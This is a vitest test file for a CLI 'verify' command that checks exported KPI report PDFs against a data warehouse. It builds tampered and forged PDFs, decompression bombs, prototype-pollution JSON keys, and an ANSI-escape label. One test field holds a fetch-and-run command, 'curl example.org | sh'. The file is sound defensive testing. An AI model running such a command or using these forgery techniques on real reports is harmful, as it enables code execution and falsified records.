import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { PDFArray, PDFDict, PDFDocument, PDFName, PDFRef, PDFString, StandardFonts } from "pdf-lib";
import { beforeAll, describe, expect, test } from "vitest";
import { type ProblemView, printedHeadlines } from "../../reports/components/fishbone/problem.js";
import type { VerifyReport } from "../../src/cli/print/verifyTable.js";
import { figuresDigest } from "../../src/export/carried/figuresDigest.js";
import { pagesDigest } from "../../src/export/carried/pagesDigest.js";
import { readCarried } from "../../src/export/carried/readCarried.js";
import { encryptPdf } from "../../src/export/encryptPdf.js";
import type { PackFigures } from "../../src/published/packFigures.js";
import { withDatabase } from "../../src/warehouse/open.js";
import { commandLine } from "../commandLine.js";
import { keepBrowser } from "../export/keepBrowser.js";
import { sampleLeadership, sampleReport } from "../export/sampleReport.js";
import { type SampleSite, sampleSite } from "../sampleSite.js";
import { temporaryFolder } from "../temporaryFolder.js";

const folder = temporaryFolder("verify");
const employee = "E00009";
keepBrowser();
let site: SampleSite;
let run: ReturnType<typeof commandLine>;
/** The sheet of one employee, some pages with pictures, and the whole report. */
let sheet: string;
let pack: string;
let report: string;

beforeAll(async () => {
  site = await sampleSite();
  report = await sampleReport("zh-CN");
  pack = join(await sampleLeadership(), "leadership.pdf");
  run = commandLine({ cwd: folder, env: process.env });
  const { code } = await run(
    ...["export", "feedback", "--for", `employee=${employee}`, "--dist", site.dist, "--out", ".", "--quiet"],
  );
  expect(code).toBe(0);
  sheet = join(folder, `feedback.${employee}.pdf`);
});

const verify = (file: string, ...options: string[]) =>
  run("verify", file, "--warehouse", site.warehouse, "--lang", "en", ...options);

async function verified(file: string): Promise<VerifyReport & { code: number }> {
  const { code, out } = await verify(file, "--format", "json");
  return { code, ...(JSON.parse(out) as VerifyReport) };
}

/** Verifies with a password that a variable of the environment holds. */
function withPassword(SECRET: string, file: string) {
  const other = commandLine({ cwd: folder, env: { ...process.env, SECRET } });
  const options = ["--warehouse", site.warehouse, "--lang", "en", "--password-env", "SECRET"];
  return other("verify", file, ...options);
}

const load = (file: string) => PDFDocument.load(readFileSync(file), { updateMetadata: false });

/** As `export` writes files. */
async function saved(name: string, document: PDFDocument): Promise<string> {
  return written(name, await document.save({ useObjectStreams: false, updateFieldAppearances: false }));
}

function written(name: string, content: string | Uint8Array): string {
  const file = join(folder, name);
  writeFileSync(file, content);
  return file;
}

/** Where a PDF's only attachment has its content. */
function attachmentOf({ catalog }: PDFDocument): { dict: PDFDict; names: PDFArray } {
  const names = catalog
    .lookup(PDFName.of("Names"), PDFDict)
    .lookup(PDFName.of("EmbeddedFiles"), PDFDict)
    .lookup(PDFName.of("Names"), PDFArray);
  return { names, dict: names.lookup(1, PDFDict).lookup(PDFName.of("EF"), PDFDict) };
}

/** A PDF that carries something else. */
async function carrying(name: string, file: string, json: string | Uint8Array): Promise<string> {
  const document = await load(file);
  const stream = document.context.flateStream(Buffer.from(json));
  attachmentOf(document).dict.set(PDFName.of("F"), document.context.register(stream));
  return saved(name, document);
}

const carriedText = async (file: string) => JSON.stringify(await carriedJson(file));

/** All that a PDF carries, the digests too. */
async function carriedJson(file: string): Promise<{ figures: PackFigures }> {
  const { decodePDFRawStream, PDFRawStream } = await import("pdf-lib");
  const stream = attachmentOf(await load(file)).dict.lookup(PDFName.of("F"));
  if (!(stream instanceof PDFRawStream)) throw new Error("no stream");
  return JSON.parse(Buffer.from(decodePDFRawStream(stream).decode()).toString("utf8"));
}

describe("a PDF as it was printed", () => {
  test("of the whole report: every value, score and initiative agrees", async () => {
    const { figures } = await readCarried(report);
    expect(figures.values.length).toBeGreaterThan(25);
    expect(figures.scores.length).toBeGreaterThan(1);
    expect(figures.initiatives.length).toBeGreaterThan(1);
    const found = await verified(report);
    expect(found.differ).toEqual([]);
    expect(found).toMatchObject({ code: 0, pages: "printed", pack: "kpi-report", not_carried: 0 });
    expect(found.build_id).toBe(found.warehouse_build_id);
    expect(found.agree).toBe(found.figures);
    expect(found.figures).toBeGreaterThan(500);
  });

  test("of an employee with a KPI that is not shown: what it weighs in is none, and one that is told all the same differs", async () => {
    const json = await carriedJson(sheet);
    const [score] = json.figures.scores;
    if (!score) throw new Error("no score");
    const at = score.items.findIndex((item) => item.score !== null);
    const items = score.items.map((item, index) =>
      index === at ? { ...item, value: null, score: null, hidden: true as const } : item,
    );
    const weight = (of: typeof items) => of.reduce((sum, item) => sum + item.weight, 0);
    const covered_weight = weight(items.filter((item) => item.score !== null)) / weight(items);
    const differing = async (name: string, total: number | null) => {
      const scores = [{ ...score, items, covered_weight, grade: null, total }];
      const other = { ...json, figures: { ...json.figures, scores } };
      return verified(await carrying(name, sheet, JSON.stringify(other)));
    };
    expect(await differing("hidden.pdf", null)).toMatchObject({ differ: [], not_carried: 1 });
    expect((await differing("told.pdf", 50)).differ).toMatchObject([{ figure: "total", now: null }]);
  });

  test("of an employee: the total and its items agree", async () => {
    const { figures } = await readCarried(sheet);
    expect(figures.scores).toMatchObject([{ kind: "employee", subject: employee }]);
    expect(figures.scores[0]?.items.length).toBeGreaterThan(2);
    const { code, out } = await verify(sheet);
    expect(code).toBe(0);
    expect(out).toContain("Pages: as they were printed.");
    expect(out).toContain("This is no signature");
    expect(out).toMatch(/\n(\d+) of \1 figures agree\.\n$/);
  });
});

test("a PDF carries of a problem what it shows: each bone's KPI, and all only where a ranking lists them", () => {
  const headlines = new Map(["a", "b", "c"].map((id) => [id, { kpi: { id } }]));
  const carried = (distance: number | null) => {
    const causes = ["a", "c"].map((lead) => ({ lead, distance }));
    return printedHeadlines({ headlines, causes } as unknown as ProblemView).map(({ kpi }) => kpi.id);
  };
  expect(carried(null)).toEqual(["a", "c"]);
  expect(carried(0.5)).toEqual(["a", "b", "c"]);
});

describe("a PDF whose figures were altered", () => {
  test("names each, in the PDF and in the warehouse, and nothing else", async () => {
    const json = await carriedJson(report);
    const [value] = json.figures.values.filter(
      ({ numerator, value }) => numerator !== null && value !== null,
    );
    const [score] = json.figures.scores;
    const initiative = json.figures.initiatives.find(({ follow_up }) => follow_up.value !== null);
    if (!value || !score?.items[0] || !initiative) throw new Error("nothing to alter");
    const was = [value.numerator, score.total, score.items[0].weight, initiative.follow_up.value];
    value.numerator = (value.numerator ?? 0) + 1;
    score.total = 99.5;
    score.items[0].weight += 0.001;
    initiative.follow_up.value = 12_345;
    const file = await carrying("figures.pdf", report, JSON.stringify(json));
    const found = await verified(file);
    expect(found).toMatchObject({ code: 1, pages: "printed" });
    expect(found.differ.map(({ kind, id, figure, now }) => [kind, id, figure, now])).toEqual([
      ["value", value.kpi_id, "numerator", expect.closeTo(was[0] ?? Number.NaN, 9)],
      ["score", score.scorecard, "total", expect.closeTo(was[1] ?? Number.NaN, 9)],
      ["score", score.scorecard, "weight", expect.closeTo(was[2] ?? Number.NaN, 9)],
      ["initiative", initiative.initiative_id, "follow_up.value", expect.closeTo(was[3] ?? Number.NaN, 9)],
    ]);
    expect(found.agree).toBe(found.figures - 4);
    const { out, err } = await verify(file);
    expect(out).toContain("99.5");
    expect(out).toContain("12345");
    expect(err).toContain("4");
  });

  test("of a KPI, scope, scorecard and initiative that there is not: nothing stands beside it", async () => {
    const json = await carriedJson(pack);
    const { values, scores, initiatives } = json.figures;
    const text = JSON.stringify({
      ...json,
      figures: {
        ...json.figures,
        build_id: "20200101-000000-00000000",
        values: [
          { ...values[0], kpi_id: "none_such", label: "\u001b[31mred" },
          { ...values[0], by: { region: "nowhere" } },
          { ...values[0], period_start: "2026-01-02" },
        ],
        scores: [{ ...scores[0], scorecard: "constructor" }],
        initiatives: [{ ...initiatives[0], initiative_id: "__proto__" }],
      },
    });
    const file = await carrying("nothing.pdf", pack, text);
    const found = await verified(file);
    expect(found.agree).toBe(0);
    const known = new Set(["label", "unit", "group", "missing", "scope"]);
    const ofFigures = found.differ.filter(
      ({ kind, figure, carried }) => kind !== "pack" && !known.has(figure) && carried !== null,
    );
    expect(ofFigures.length).toBeGreaterThan(5);
    expect(ofFigures.every(({ now }) => now === null)).toBe(true);
    const { out } = await verify(file);
    expect(out).toContain(
      `The warehouse has another build, ${found.warehouse_build_id}, with which it was compared`,
    );
    expect(out).not.toContain("\u001b");
  });
});

describe("a PDF whose pages were altered", () => {
  test("by a word on one of them", async () => {
    const document = await load(sheet);
    const font = await document.embedFont(StandardFonts.Helvetica);
    document.getPages()[0]?.drawText("100 %", { x: 100, y: 100, size: 12, font });
    const found = await verified(await saved("drawn.pdf", document));
    expect(found).toMatchObject({ code: 1, pages: "altered", differ: [] });
  });

  test("by a font whose letters are others, the contents left as they are", async () => {
    const document = await load(sheet);
    const fonts = document.context
      .enumerateIndirectObjects()
      .flatMap(([, object]) =>
        object instanceof PDFDict && object.has(PDFName.of("FontFile2")) ? object : [],
      );
    const file = document.context.register(document.context.flateStream("another font"));
    for (const font of fonts) font.set(PDFName.of("FontFile2"), file);
    expect(fonts.length).toBeGreaterThan(0);
    expect(await verified(await saved("font.pdf", document))).toMatchObject({ code: 1, pages: "altered" });
  });

  test("by a note laid over one: what is drawn is as printed, and something lies over it", async () => {
    const document = await load(sheet);
    const note = document.context.obj({ Type: "Annot", Subtype: "FreeText", Rect: [50, 50, 200, 80] });
    note.set(PDFName.of("Contents"), PDFString.of("100 %"));
    const [page] = document.getPages();
    const others = page?.node.lookupMaybe(PDFName.of("Annots"), PDFArray)?.asArray() ?? [];
    page?.node.set(PDFName.of("Annots"), document.context.obj([...others, document.context.register(note)]));
    expect(await verified(await saved("note.pdf", document))).toMatchObject({ code: 1, pages: "covered" });
  });

  test("by pages that are in another order, twice there, or gone", async () => {
    const turned = await load(pack);
    const [page] = await turned.copyPages(turned, [1]);
    if (page) turned.addPage(page);
    expect(await verified(await saved("added.pdf", turned))).toMatchObject({ code: 1, pages: "altered" });
    const less = await load(pack);
    less.removePage(2);
    expect(await verified(await saved("less.pdf", less))).toMatchObject({ code: 1, pages: "altered" });
    const order = await load(pack);
    const kids = order.catalog.Pages().Kids();
    const [one, two] = [kids.get(0), kids.get(1)];
    kids.set(0, two);
    kids.set(1, one);
    expect(await verified(await saved("order.pdf", order))).toMatchObject({ code: 1, pages: "altered" });
  });

  test("by letters that stand for others when they are copied out", async () => {
    const document = await load(sheet);
    const fonts = document.context
      .enumerateIndirectObjects()
      .flatMap(([, object]) =>
        object instanceof PDFDict && object.has(PDFName.of("ToUnicode")) ? object : [],
      );
    for (const font of fonts) font.delete(PDFName.of("ToUnicode"));
    expect(fonts.length).toBeGreaterThan(0);
    expect(await verified(await saved("letters.pdf", document))).toMatchObject({ code: 1, pages: "altered" });
  });

  test("by an alternative text, a bookmark or the title: what is drawn is as printed", async () => {
    const spoken = await load(report);
    const pictures = spoken.context
      .enumerateIndirectObjects()
      .flatMap(([, object]) => (object instanceof PDFDict && object.has(PDFName.of("Alt")) ? object : []));
    pictures[0]?.set(PDFName.of("Alt"), PDFString.of("92 %"));
    expect(pictures.length).toBeGreaterThan(0);
    const marked = await load(pack);
    const outline = marked.catalog.lookup(PDFName.of("Outlines"), PDFDict);
    outline.lookup(PDFName.of("First"), PDFDict).set(PDFName.of("Title"), PDFString.of("92 %"));
    const named = await load(pack);
    named.setTitle("92 %");
    for (const [name, document] of Object.entries({ spoken, marked, named })) {
      const file = await saved(`${name}.pdf`, document);
      expect(await verified(file)).toMatchObject({ code: 1, pages: "retold" });
    }
    const { err } = await verify(join(folder, "named.pdf"));
    expect(err).toContain("tags, bookmarks or properties are not those that were printed");
  });

  test("not by being locked: with its password it is what it was", async () => {
    for (const [name, file] of Object.entries({ sheet, pack })) {
      const locked = join(folder, `${name}.locked.pdf`);
      writeFileSync(locked, await encryptPdf(readFileSync(file), "Ring-of-11"));
      const { code, out, err } = await withPassword("Ring-of-11", locked);
      expect({ code, err }).toEqual({ code: 0, err: "" });
      expect(out).toContain("Pages: as they were printed.");
    }
  });

  test("not by being saved as it is, but by another program's way to save", async () => {
    const again = await verified(await saved("again.pdf", await load(sheet)));
    expect(again).toMatchObject({ code: 0, pages: "printed" });
    const document = await load(sheet);
    const other = written("rewritten.pdf", await document.save({ useObjectStreams: true }));
    expect(await verified(other)).toMatchObject({ code: 1, pages: "rewritten", differ: [] });
    const { out, err } = await verify(other);
    expect(out).toContain("another program has written the file since");
    expect(err).toContain("written by another program");
  });

  /** A file with an object twice more, of which viewers show the first and some programs read the last. */
  function twice(name: string, file: string, { objectNumber: number }: PDFRef, other: string): string {
    const bytes = readFileSync(file);
    const at = bytes.indexOf(`\n${number} 0 obj`) + 1;
    const own = bytes.subarray(at, bytes.indexOf("endobj", at) + "endobj\n".length);
    const [before] = /\d+(?=\s*%%EOF\s*$)/.exec(bytes.toString("latin1")) ?? [];
    const [trailer] = /(?<=trailer\s*<<)[\s\S]*?(?=>>\s*startxref)/.exec(bytes.toString("latin1")) ?? [];
    const added = Buffer.concat([Buffer.from(`${number} 0 obj\n${other}\nendobj\n`), own]);
    const place = String(bytes.length).padStart(10, "0");
    const table = `xref\n${number} 1\n${place} 00000 n \ntrailer\n<<${trailer}/Prev ${before}>>\n`;
    const end = `${table}startxref\n${bytes.length + added.length}\n%%EOF\n`;
    return written(name, Buffer.concat([bytes, added, Buffer.from(end)]));
  }

  test("by an object that is there twice, the altered one listed, the printed one last: pages and figures", async () => {
    const document = await load(sheet);
    const drawn = document.getPages()[0]?.node.get(PDFName.of("Contents"));
    const attached = attachmentOf(document).dict.get(PDFName.of("F"));
    for (const [name, ref] of Object.entries({ drawn, attached })) {
      if (!(ref instanceof PDFRef)) throw new Error("stands for itself");
      const file = twice(`twice.${name}.pdf`, sheet, ref, "<</Length 1>>\nstream\n \nendstream");
      expect(await verified(file)).toMatchObject({ code: 1, pages: "rewritten" });
    }
  });

  test("by an object that a locked one has twice, or that hides in it", async () => {
    const locked = Buffer.from(await encryptPdf(readFileSync(sheet), "Ring-of-11"));
    const [at, end] = [locked.lastIndexOf("startxref"), locked.indexOf("\n\n") + 2];
    const [number] = /^\d+/.exec(locked.toString("latin1", end, end + 20)) ?? [];
    for (const other of [number, "9999"]) {
      const added = Buffer.from(`${other} 0 obj\n<<>>\nendobj\n\n`);
      const parts = [locked.subarray(0, at), added, locked.subarray(at)];
      const file = written(`hidden.${other}.pdf`, Buffer.concat(parts));
      const { code, err } = await withPassword("Ring-of-11", file);
      expect({ code, err }).toEqual({ code: 1, err: expect.stringMatching(/not those|another program/) });
    }
  });

  test("by a list of places that leads elsewhere, and by what hides behind the end", async () => {
    const text = readFileSync(sheet).toString("latin1");
    const [first] = /\d{10}(?= 00000 n)/.exec(text) ?? [""];
    const moved = text.replace(`${first} 00000 n`, `${String(Number(first) + 1).padStart(10, "0")} 00000 n`);
    const longer = `${text}9999 0 obj\n<<>>\nendobj\n`;
    for (const [name, content] of Object.entries({ moved, longer })) {
      const file = written(`${name}.pdf`, Buffer.from(content, "latin1"));
      expect(await verified(file)).toMatchObject({ code: 1, pages: "rewritten" });
    }
  });
});

describe("a PDF that was altered by somebody who works the digests out anew", () => {
  /** Figures as they were, and the digests of the pages as they are now. */
  async function forged(name: string, document: PDFDocument, figures: PackFigures): Promise<string> {
    const digests = { figures_sha256: figuresDigest(figures), ...pagesDigest(document) };
    const json = JSON.stringify({ figures, ...digests });
    const stream = document.context.flateStream(Buffer.from(json));
    attachmentOf(document).dict.set(PDFName.of("F"), document.context.register(stream));
    return saved(name, document);
  }

  test("is told where no page shows a figure any more", async () => {
    const { figures } = await carriedJson(pack);
    const document = await load(pack);
    const empty = document.context.register(document.context.flateStream(""));
    for (const { node } of document.getPages()) node.set(PDFName.of("Contents"), empty);
    const found = await verified(await forged("emptied.pdf", document, figures));
    expect(found).toMatchObject({ code: 1, pages: "printed", differ: [] });
    expect(found.unprinted.length).toBeGreaterThan(10);
    const { out, err } = await verify(join(folder, "emptied.pdf"));
    expect(out).toContain("none of its pages shows them");
    expect(err).toContain(`figures that stand on no page: ${found.unprinted.length}`);
  });

  test("is told where the attachment has another figure than the pages, whichever build the warehouse has", async () => {
    const json = await carriedJson(pack);
    const value = json.figures.values.find(({ unit, value }) => unit === "percent" && value !== null);
    if (!value) throw new Error("nothing to alter");
    value.value = 0.123456;
    const { unprinted } = await verified(await forged("other.pdf", await load(pack), json.figures));
    expect(unprinted).toMatchObject([{ id: value.kpi_id, figure: "value", text: "12.35" }]);
  });
});

test("a PDF of a build that is kept is held against it, though the warehouse holds another", async () => {
  const warehouse = join(folder, "later.duckdb");
  copyFileSync(site.warehouse, warehouse);
  await withDatabase(warehouse, {}, async (db) => {
    await db.run("update config.settings set build_id = '20300102-000000-0123abcd'");
    await db.run("update marts.kpi_cube set numerator = numerator + 1");
    await db.run("checkpoint");
  });
  const differing = await run("verify", report, "--warehouse", warehouse, "--format", "json");
  expect(differing.code).toBe(1);
  const { build_id } = JSON.parse(differing.out) as VerifyReport;
  mkdirSync(`${warehouse}.builds`);
  copyFileSync(site.warehouse, join(`${warehouse}.builds`, `${build_id}.duckdb`));
  const { code, out } = await run("verify", report, "--warehouse", warehouse, "--format", "json");
  expect({ code, ...(JSON.parse(out) as VerifyReport) }).toMatchObject({
    code: 0,
    warehouse_build_id: build_id,
    differ: [],
  });
});

describe("an attachment whose head or lists were altered", () => {
  type Carried = Awaited<ReturnType<typeof carriedJson>> & { figures_sha256?: string };
  /** A copy of the pack whose attachment is other, with the digest of it worked out anew. */
  async function edited(name: string, edit: (figures: PackFigures) => void, file = pack): Promise<string> {
    const json: Carried = await carriedJson(file);
    edit(json.figures);
    json.figures_sha256 = figuresDigest(json.figures);
    return carrying(name, file, JSON.stringify(json));
  }

  test("is told by its digest, where nothing else would tell", async () => {
    const json = await carriedJson(pack);
    const [value] = json.figures.values;
    if (value) value.section = "Other";
    const file = await carrying("section.pdf", pack, JSON.stringify(json));
    expect(await verified(file)).toMatchObject({ code: 1, attachment: "altered", differ: [] });
    const { out, err } = await verify(file);
    expect(out).toContain("Attachment: ALTERED");
    expect(err).toContain("the attachment with the figures is not the one that was printed");
  });

  const heads: [string, (figures: PackFigures) => void, string[]][] = [
    [
      "what the warehouse and the packs say",
      (figures) => {
        const said = { currency: "USD", command: "curl example.org | sh", as_of_on: "2031-01-31" };
        Object.assign(figures, said);
        Object.assign(figures.values[0] ?? {}, { label: "Other" });
        Object.assign(figures.values[1] ?? {}, { unit: "days" });
        Object.assign(figures.definitions[0] ?? {}, { formula: "1" });
      },
      ["currency", "as_of_on", "command", "label", "unit", "formula", "build_id", "command"],
    ],
    [
      "what heads and feet say",
      (figures) =>
        Object.assign(figures, { title: "Audited", period: "2031年1月", build_id: "20300101-000000-0" }),
      ["title", "title", "period", "build_id"],
    ],
    ["the pack", (figures) => Object.assign(figures, { pack: "none-such" }), ["pack", "command"]],
  ];
  for (const [name, edit, names] of heads)
    test(`names what is other than ${name}`, async () => {
      const found = await verified(await edited(`head.${name.length}.pdf`, edit));
      expect(found).toMatchObject({ code: 1, pages: "printed", attachment: "printed" });
      expect([...found.differ, ...found.unprinted].map(({ figure }) => figure)).toEqual(names);
    });

  test("names another scope, which neither the figures nor the command have", async () => {
    const found = await verified(
      await edited("head.scope.pdf", (figures) => Object.assign(figures, { scope: { region: "华东" } })),
    );
    expect(found.code).toBe(1);
    const names = new Set(found.differ.map(({ figure }) => figure));
    expect([...names]).toEqual(["command", "scope"]);
  });

  test("names a value, an item, a scorecard and an initiative that the pages show and it has no more", async () => {
    const { figures: was } = await carriedJson(report);
    const value = was.values.find(({ value, unit, by }) => value !== null && unit === "percent" && by);
    const [card] = was.scores;
    const item = was.scores[1]?.items.find(({ score }) => score !== null);
    const [initiative] = was.initiatives;
    const found = await verified(
      await edited(
        "less.figures.pdf",
        (figures) => {
          figures.values = figures.values.filter(({ kpi_id }) => kpi_id !== value?.kpi_id);
          figures.scores.shift();
          const [first] = figures.scores;
          if (first) first.items = first.items.filter(({ kpi_id }) => kpi_id !== item?.kpi_id);
          figures.initiatives.shift();
        },
        report,
      ),
    );
    expect(found).toMatchObject({ code: 1, pages: "printed", attachment: "printed" });
    expect(found.differ.map(({ kind, id, item, carried }) => [kind, id, item?.id, carried])).toEqual([
      ["value", value?.kpi_id, undefined, null],
      ["score", was.scores[1]?.scorecard, item?.kpi_id, null],
      ["score", card?.scorecard, undefined, null],
      ["initiative", initiative?.initiative_id, undefined, null],
    ]);
  });

  test("is refused where it has one twice, and ends with 2 where it has none", async () => {
    const doubled = await edited("doubled.pdf", (figures) => {
      figures.values = [...figures.values.slice(0, 1), ...figures.values];
    });
    expect(await verify(doubled)).toMatchObject({ code: 2, err: expect.stringContaining("is not as") });
    const emptied = await edited("emptied.figures.pdf", (figures) =>
      Object.assign(figures, { values: [], scores: [], initiatives: [] }),
    );
    const { code, err } = await verify(emptied);
    expect({ code, err }).toEqual({ code: 2, err: expect.stringContaining("carries no figures") });
  });
});

describe("what carries no figures of ours ends with a sentence and exit code 2", () => {
  const refused = async (file: string): Promise<string> => {
    const { code, out, err } = await verify(file);
    expect({ code, out, lines: err.trim().split("\n").length }).toEqual({ code: 2, out: "", lines: 1 });
    expect(err).not.toMatch(/^\s+at /m);
    return err;
  };

  test("no file, no PDF, half a PDF, the PDF of another tool", async () => {
    expect(await refused(join(folder, "none.pdf"))).toContain("no such file");
    expect(await refused(folder)).toContain("no such file");
    expect(await refused(written("text.pdf", "figures"))).toContain("no PDF");
    const bytes = readFileSync(sheet);
    expect(await refused(written("half.pdf", bytes.subarray(0, bytes.length / 2)))).toMatch(
      /broken|no figures/,
    );
    const other = await PDFDocument.create();
    other.addPage();
    expect(await refused(await saved("other.pdf", other))).toContain("carries no figures");
  });

  test("a locked one without its password, or with another", async () => {
    const file = written("locked.pdf", await encryptPdf(readFileSync(sheet), "Ring-of-11"));
    expect(await refused(file)).toContain("--password-env");
    const { code, err } = await withPassword("ring-of-11", file);
    expect({ code, err }).toEqual({ code: 2, err: expect.stringContaining("its password is another") });
    const unset = await withPassword("", file);
    expect({ code: unset.code, err: unset.err }).toEqual({ code: 2, err: expect.stringContaining("SECRET") });
  });

  test("two attachments of one name", async () => {
    const document = await load(sheet);
    await document.attach(Buffer.from(await carriedText(sheet)), "figures.json");
    expect(await refused(await saved("two.pdf", document))).toContain("2 attachments");
  });

  test("JSON that is none, has other fields, keys of the language, or no end", async () => {
    const text = await carriedText(sheet);
    expect(await verified(await carrying("same.pdf", sheet, text))).toMatchObject({ code: 0 });
    const cases = [
      "{",
      "null",
      "[]",
      '{"figures": {"format": 1}}',
      text.replace('"format":1', '"format":2'),
      text.replace('"scope":{', '"scope":{"__proto__":"x",'),
      text.replace(/"total":[\d.]+/, '"total":"much"'),
      text.replace(/"total":[\d.]+/, '"total":1e999'),
      "[".repeat(200_000),
    ];
    for (const [at, json] of cases.entries()) {
      expect(json).not.toBe(text);
      const said = await refused(await carrying(`json${at}.pdf`, sheet, json));
      expect(said).toContain("figures.json is not as herringbone export writes it");
    }
  });

  test("100 MB packed into little, of which no more is unpacked than figures take", async () => {
    const file = await carrying("large.pdf", sheet, new Uint8Array(100 * 2 ** 20).fill(0x20));
    expect(readFileSync(file).length).toBeLessThan(10 * 2 ** 20);
    const before = process.memoryUsage().arrayBuffers;
    expect(await refused(file)).toContain("it is larger than 32 MB");
    expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(80 * 2 ** 20);
  });

  test("pages, lists of objects and ways to pack that become many times the file: nothing is opened", async () => {
    const much = new Uint8Array(33 * 2 ** 20).fill(0x20);
    const drawn = await load(sheet);
    const [page] = drawn.getPages();
    page?.node.set(PDFName.of("Contents"), drawn.context.register(drawn.context.flateStream(much)));
    const listed = await load(sheet);
    listed.context.register(listed.context.flateStream(much, { Type: "ObjStm", N: 0, First: 0 }));
    for (const [name, document] of Object.entries({ drawn, listed })) {
      const file = await saved(`${name}.large.pdf`, document);
      expect(readFileSync(file).length).toBeLessThan(2 ** 20);
      expect(await refused(file)).toContain("it is larger than");
    }
    // Locked, its lists tell nobody how large they get before they are opened.
    const within = await load(sheet);
    within.context.register(PDFString.of(" ".repeat(33 * 2 ** 20)));
    const open = readFileSync(await saved("within.large.pdf", within));
    const file = written("within.locked.pdf", await encryptPdf(open, "Ring-of-11"));
    expect(readFileSync(file).length).toBeLessThan(2 ** 20);
    const { code, err } = await withPassword("Ring-of-11", file);
    expect([code, err]).toEqual([2, expect.stringContaining("it is larger than 128 MB")]);
    const filters = { lzw: "LZWDecode", folded: ["FlateDecode", "FlateDecode"], hidden: PDFRef.of(7) };
    for (const [name, Filter] of Object.entries(filters)) {
      const packed = await load(sheet);
      packed.context.register(packed.context.stream(new Uint8Array(8), { Filter }));
      expect(await refused(await saved(`${name}.packed.pdf`, packed))).toContain("streams are packed");
    }
  });

  test("an attachment that leads to no file", async () => {
    const document = await load(sheet);
    attachmentOf(document).dict.set(PDFName.of("F"), PDFRef.of(999_999));
    expect(await refused(await saved("nowhere.pdf", document))).toContain("figures.json is not as");
  });
});
